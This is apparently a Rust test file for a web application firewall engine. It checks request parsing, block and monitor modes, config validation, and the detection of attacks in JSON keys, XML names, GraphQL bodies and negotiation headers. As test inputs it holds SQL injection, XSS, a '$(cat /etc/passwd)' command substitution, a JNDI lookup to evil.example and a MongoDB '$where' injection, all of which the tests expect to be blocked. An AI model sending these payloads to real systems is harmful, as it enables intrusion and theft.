// Test helpers outside `#[test]` functions unwrap and panic too, and tests
// read whole responses.
#![allow(clippy::unwrap_used, clippy::panic, clippy::disallowed_methods)]

use rampart_core::{Action, Engine, EngineConfig, Mode, Request};

fn engine(mode: Mode) -> Engine {
    let reg = rampart_builtin_plugins::registry().unwrap();
    let cfg = EngineConfig {
        mode,
        ..EngineConfig::default()
    };
    Engine::new(&reg, cfg).unwrap()
}

#[test]
fn query_and_path_points() {
    let e = engine(Mode::Block);
    let req = Request::new("GET", "/shop/items/42?q=red+shoes&tags[]=a&tags[]=b")
        .header("Host", "shop.example")
        .header("User-Agent", "curl/8");
    let ins = e.inspect(&req);
    let pts = ins.points();
    let has = |p: &str, v: &str| pts.iter().any(|(pp, vv)| pp == p && vv == v);
    assert!(has("path", "/shop/items/42"), "{pts:?}");
    assert!(has("path[2]", "42"));
    assert!(has("query.q", "red shoes"));
    assert!(has("query.tags[1]", "b"));
    assert!(has("header[\"user-agent\"]", "curl/8"));
    assert!(has("method", "GET"));
    assert_eq!(ins.verdict.action, Action::Allow);
}

#[test]
fn off_mode_inspects_nothing() {
    let e = engine(Mode::Off);
    let ins = e.inspect(&Request::new("GET", "/?a=1"));
    assert!(ins.tree.is_empty());
}

#[test]
fn node_budget_blocks_in_block_mode_and_logs_in_monitor_mode() {
    let target = format!("/?{}", "a=1&".repeat(20_000));
    let req = Request::new("GET", &target);
    let ins = engine(Mode::Block).inspect(&req);
    assert_eq!(ins.verdict.action, Action::Block);
    assert_eq!(ins.verdict.rule.as_deref(), Some("limit.nodes"));
    assert_eq!(ins.verdict.status, 403);
    let ins = engine(Mode::Monitor).inspect(&req);
    assert_eq!(ins.verdict.action, Action::Monitor);
}

#[test]
fn config_validation_reports_every_problem() {
    let cfg: EngineConfig = toml::from_str(
        "mode = \"block\"\n[limits]\nmax_depth = 0\nmax_time_ms = 0\n[policy]\nblock_status = 200\nclass_thresholds = { nope = 3 }\n",
    )
    .unwrap();
    let err = cfg.validate().unwrap_err();
    assert_eq!(err.problems.len(), 4, "{err}");
    assert!(toml::from_str::<EngineConfig>("mode = \"blok\"").is_err());
    let typo: EngineConfig = toml::from_str("[plugin.jsn]\nstrict = \"true\"").unwrap();
    let reg = rampart_builtin_plugins::registry().unwrap();
    let err = Engine::new(&reg, typo).unwrap_err().to_string();
    assert!(
        err.contains("[plugin.jsn]: no plugin of that name is loaded"),
        "{err}"
    );
    assert!(toml::from_str::<EngineConfig>("[limits]\nmax_dept = 3").is_err());
}

#[path = "engine/hostile.rs"]
mod hostile;
#[path = "engine/plugins.rs"]
mod plugins;

#[test]
fn graphql_introspection_is_reported_once_and_blocks_by_default() {
    let e = engine(Mode::Block);
    let post = |q: &str| {
        let body = serde_json::json!({ "query": q }).to_string();
        Request::new("POST", "/graphql")
            .header("Content-Type", "application/json")
            .body(body)
    };
    let ins = e.inspect(&post(
        "query IntrospectionQuery { __schema { queryType { name } types { name kind } } }",
    ));
    let hits: Vec<_> = ins
        .findings
        .iter()
        .filter(|f| f.rule == "scanner.graphql-introspection")
        .collect();
    assert_eq!(hits.len(), 1, "{:?}", ins.findings);
    assert_eq!(ins.verdict.action, Action::Block);
    assert_eq!(
        ins.verdict.rule.as_deref(),
        Some("scanner.graphql-introspection")
    );
    // Ordinary queries, including __typename, pass.
    let ins = e.inspect(&post(
        "{ product(id: 3) { __typename name reviews { rating } } }",
    ));
    assert_eq!(ins.verdict.action, Action::Allow, "{:?}", ins.findings);
}

#[test]
fn graphql_variables_named_like_mongodb_operators_pass() {
    // `$text`, `$where` and `$in` are ordinary GraphQL variable names; the
    // same words as JSON keys of the variables are MongoDB operators.
    let e = engine(Mode::Block);
    let post = |body: serde_json::Value| {
        Request::new("POST", "/graphql")
            .header("Content-Type", "application/json")
            .body(body.to_string())
    };
    let ins = e.inspect(&post(serde_json::json!({
        "query": "query Search($text: String!, $where: String, $in: [ID!]) { search(text: $text, where: $where, in: $in) { id } }",
        "variables": { "text": "red shoes", "where": "berlin", "in": ["1", "2"] },
        "operationName": "Search",
    })));
    assert_eq!(ins.verdict.action, Action::Allow, "{:?}", ins.findings);
    let ins = e.inspect(&post(serde_json::json!({
        "query": "query Search($f: Filter) { search(filter: $f) { id } }",
        "variables": { "f": { "$where": "sleep(5000)" } },
    })));
    assert_eq!(ins.verdict.action, Action::Block, "{:?}", ins.findings);
}

#[test]
fn names_of_structured_members_are_inspected_once() {
    let e = engine(Mode::Block);
    let json = |body: &str| {
        Request::new("POST", "/api")
            .header("Content-Type", "application/json")
            .body(body.as_bytes().to_vec())
    };
    // An attack in a JSON key blocks, and the finding says it is the name.
    let ins = e.inspect(&json(
        r#"[{"x' union select password from users--": 1}, {"x' union select password from users--": 2}]"#,
    ));
    assert_eq!(ins.verdict.action, Action::Block, "{:?}", ins.findings);
    let on_names: Vec<_> = ins.findings.iter().filter(|f| f.on_name).collect();
    assert!(!on_names.is_empty());
    // The same name twice in a document is inspected once.
    let points: std::collections::BTreeSet<_> = on_names.iter().map(|f| f.point).collect();
    assert_eq!(points.len(), 1, "{on_names:?}");
    let j = ins.to_json();
    let f = &j["findings"][0];
    assert_eq!(f["in"], "name");
    assert_eq!(f["excerpt"], "union select password from users");

    // An XML element name too.
    let xml = Request::new("POST", "/soap")
        .header("Content-Type", "text/xml")
        .body(b"<a><java.lang.ProcessBuilder>calc</java.lang.ProcessBuilder></a>".to_vec());
    let ins = e.inspect(&xml);
    assert!(ins.findings.iter().any(|f| f.on_name), "{:?}", ins.findings);

    // Ordinary keys, repeated or not, pass.
    let ins = e.inspect(&json(
        r#"{"order":{"id":"9f1c","items":[{"sku":"A-1","qty":2},{"sku":"B-2","qty":1}],"ship-to":"12 Main St"}}"#,
    ));
    assert_eq!(ins.verdict.action, Action::Allow, "{:?}", ins.findings);
    assert!(
        ins.findings.iter().all(|f| !f.on_name || f.score < 50),
        "{:?}",
        ins.findings
    );

    // Names of the form layer are in its whole-string value already, and
    // header names are not chosen freely: neither is offered as a name.
    let form = Request::new("POST", "/f")
        .header("Content-Type", "application/x-www-form-urlencoded")
        .header("X-Union-Select", "1")
        .body(b"a%27%20or%20%271%27%3D%271=1".to_vec());
    let ins = e.inspect(&form);
    assert_eq!(ins.verdict.action, Action::Block);
    assert!(
        ins.findings.iter().all(|f| !f.on_name),
        "{:?}",
        ins.findings
    );
}

#[test]
fn negotiation_headers_are_inspected_unless_well_formed() {
    let e = engine(Mode::Block);
    let get = |name: &str, value: &str| Request::new("GET", "/").header(name, value);
    // Attack syntax breaks the strict grammar: inspected and blocked.
    for (name, value) in [
        (
            "Accept-Language",
            "en-US' union select password from users--",
        ),
        ("Accept", "text/html;q=<script>alert(1)</script>"),
        ("Accept-Encoding", "gzip;$(cat /etc/passwd)"),
        ("Accept-Charset", "${jndi:ldap://evil.example/a}"),
    ] {
        let ins = e.inspect(&get(name, value));
        assert_eq!(ins.verdict.action, Action::Block, "{name}: {value}");
    }
    // Well-formed browser values pass with no attack finding at all.
    let ins = e.inspect(
        &get(
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        )
        .header("Accept-Language", "de-CH, de;q=0.9, en;q=0.8, *;q=0.5")
        .header("Accept-Encoding", "gzip, deflate, br, zstd"),
    );
    assert_eq!(ins.verdict.action, Action::Allow);
    assert!(
        ins.findings.iter().all(|f| !f.class.is_attack()),
        "{:?}",
        ins.findings
    );
}

#[test]
fn a_name_repeated_after_many_distinct_ones_is_inspected_once() {
    let e = engine(Mode::Block);
    let keys: Vec<String> = (0..40).map(|i| format!("\"field{i}\":{i}")).collect();
    let attack = r#""x' union select password from users--":1"#;
    let obj = format!("{{{},{attack}}}", keys.join(","));
    let body = format!("[{obj},{obj},{obj}]");
    let ins = e.inspect(
        &Request::new("POST", "/api")
            .header("Content-Type", "application/json")
            .body(body.into_bytes()),
    );
    assert_eq!(ins.verdict.action, Action::Block);
    let on_names: std::collections::BTreeSet<_> = ins
        .findings
        .iter()
        .filter(|f| f.on_name && f.rule == "sqli.union")
        .map(|f| f.point)
        .collect();
    assert_eq!(on_names.len(), 1, "{:?}", ins.findings);
}
